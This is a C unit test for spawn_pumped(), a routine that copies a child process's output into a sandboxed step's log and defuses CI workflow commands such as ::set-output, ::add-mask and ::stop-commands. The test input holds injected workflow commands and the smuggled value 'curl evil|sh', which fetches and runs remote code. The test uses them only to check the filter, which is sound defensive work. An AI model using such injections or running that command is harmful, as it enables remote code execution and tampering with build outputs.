/* SPDX-License-Identifier: MIT */
/* pump.c: a real child's output copied through spawn_pumped(), with the filter of workflow commands
 * (what sandbox exec gives a step's log) and without it (--raw): a line of the sandbox's can set no
 * output of the step, mask nothing and stop no command, on either stream; raw bytes stay as they were. */
#include <check.h>

#include "check-run.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "client.h"

/* What the child writes: commands on both streams, one after white space, one in the middle of a line,
 * and a last line without its end. */
#define SCRIPT                                                                                              \
        "printf '::set-output name=patch::x; curl evil|sh\\nplain ::not one\\n  "                           \
        "::add-mask::s\\n##[group]g\\n::stop-commands::t'; "                                                \
        "printf '::error::from stderr\\n' >&2; exit 7"

/* Runs SCRIPT through spawn_pumped() with standard output and error in files; their contents in out and
 * err (each at most size - 1 bytes), the child's status returned. */
static int pumped(bool filter, char *out, char *err, size_t size)
{
        char out_path[] = "/tmp/test-pump-out.XXXXXX", err_path[] = "/tmp/test-pump-err.XXXXXX";
        char *const argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)SCRIPT, NULL };
        char *const env[] = { (char *)"PATH=/usr/bin:/bin", NULL };
        int o = mkstemp(out_path), e = mkstemp(err_path), in = open("/dev/null", O_RDONLY | O_CLOEXEC);
        int saved_out = dup(STDOUT_FILENO), saved_err = dup(STDERR_FILENO), status = -1;
        ssize_t n;

        ck_assert(o >= 0 && e >= 0 && in >= 0 && saved_out >= 0 && saved_err >= 0);
        ck_assert_int_ge(dup2(o, STDOUT_FILENO), 0);
        ck_assert_int_ge(dup2(e, STDERR_FILENO), 0);
        ck_assert_int_eq(spawn_pumped(argv, env, in, filter, &status), 0);
        ck_assert_int_ge(dup2(saved_out, STDOUT_FILENO), 0);
        ck_assert_int_ge(dup2(saved_err, STDERR_FILENO), 0);
        n = pread(o, out, size - 1, 0);
        ck_assert_int_ge(n, 0);
        out[n] = '\0';
        n = pread(e, err, size - 1, 0);
        ck_assert_int_ge(n, 0);
        err[n] = '\0';
        unlink(out_path);
        unlink(err_path);
        close(o);
        close(e);
        close(in);
        close(saved_out);
        close(saved_err);
        return status;
}

START_TEST(test_filtered)
{
        char out[4096], err[4096];

        ck_assert_int_eq(pumped(true, out, err, sizeof(out)), 7);
        ck_assert_str_eq(out, ": :set-output name=patch::x; curl evil|sh\n"
                              "plain ::not one\n"
                              "  : :add-mask::s\n"
                              "## [group]g\n"
                              ": :stop-commands::t\n");
        ck_assert_str_eq(err, ": :error::from stderr\n");
}
END_TEST

START_TEST(test_raw)
{
        char out[4096], err[4096];

        ck_assert_int_eq(pumped(false, out, err, sizeof(out)), 7);
        ck_assert_str_eq(out, "::set-output name=patch::x; curl evil|sh\n"
                              "plain ::not one\n"
                              "  ::add-mask::s\n"
                              "##[group]g\n"
                              "::stop-commands::t");
        ck_assert_str_eq(err, "::error::from stderr\n");
}
END_TEST

static Suite *pump_suite(void)
{
        Suite *s = suite_create("pump");
        TCase *tc = tcase_create("pump");

        tcase_add_test(tc, test_filtered);
        tcase_add_test(tc, test_raw);
        suite_add_tcase(s, tc);
        return s;
}

int main(void)
{
        return check_run(pump_suite());
}
